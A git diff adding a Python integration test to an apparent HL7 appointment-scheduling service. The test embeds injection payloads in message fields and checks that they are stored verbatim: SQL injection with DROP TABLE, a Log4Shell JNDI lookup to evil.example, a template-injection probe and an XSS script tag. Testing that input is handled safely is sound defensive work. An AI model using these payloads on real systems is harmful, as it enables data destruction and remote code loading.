@@ -257,3 +257,30 @@ async def test_the_two_frame_sample_stream_is_two_messages_for_one_appointment(
     kinds = [v.kind for v in verdicts]
     assert kinds == ["appointment.book", "appointment.cancel"], verdicts
     assert verdicts[0].entity == verdicts[1].entity != ""
+
+
+async def test_hostile_strings_inside_valid_messages_are_stored_verbatim(
+    nats_url: str, unique_prefix: str, tmp_path: Path
+) -> None:
+    room = "OR-3'); DROP TABLE entities;--"
+    reason = "${jndi:ldap://evil.example/a} {{7*7}} <script>alert(1)</script>"
+    cfg = make_config(unique_prefix)
+    booking = siu("S12", "H-1", filler="H1").replace(
+        b"MAIN-OR^OR-3^^MAIN-OR", f"MAIN-OR^{room}^^MAIN-OR".encode()
+    )
+    cancel = siu("S15", "H-2", filler="H1", msh7="20261124101500").replace(
+        b"SCH||H1^GENHOSP||||", f"SCH||H1^GENHOSP||||^{reason}".encode()
+    )
+    async with running(cfg, nats_url, tmp_path) as service, client(nats_url) as nc:
+        await load_refdata(nc.jetstream(), service)
+        raw = RawSubmitter(nc, subjects_for(cfg), wait_s=20)
+        assert (await raw.submit("hl7", booking)).verdict == "accepted"
+        booked = await appointment(cfg, tmp_path, "GENHOSP:H1")
+        assert booked is not None
+        assert booked.details is not None
+        assert booked.details.room == room
+        assert (await raw.submit("hl7", cancel)).verdict == "accepted"
+    cancelled = await appointment(cfg, tmp_path, "GENHOSP:H1")
+    assert cancelled is not None
+    assert cancelled.status == "cancelled"
+    assert cancelled.close_reason == reason
